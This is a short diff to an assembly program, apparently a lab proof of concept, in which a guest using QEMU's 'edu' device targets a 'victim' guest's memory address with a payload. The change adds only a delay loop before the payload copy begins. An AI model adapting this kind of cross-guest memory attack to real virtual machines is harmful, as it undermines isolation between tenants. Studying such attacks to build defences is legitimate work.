@@ -16,6 +16,7 @@ org 0x10_0000
 %define OWN_PAGE    0x5000              ; the same number as the victim's guest address
 %define PAYLOAD     0x30_0000
 %define LENGTH      64
+%define PATIENCE    15_000
 %define COM1        0x3F8
 
 ; the device's registers (QEMU's edu) and its buffer
@@ -40,6 +41,9 @@ org 0x10_0000
 %endmacro
 
 start:
+        mov     ecx, PATIENCE           ; let the victim run for a while first
+wait:   loop    wait
+
         mov     esi, message            ; the payload, at an address of our own
         mov     edi, PAYLOAD
         mov     ecx, LENGTH
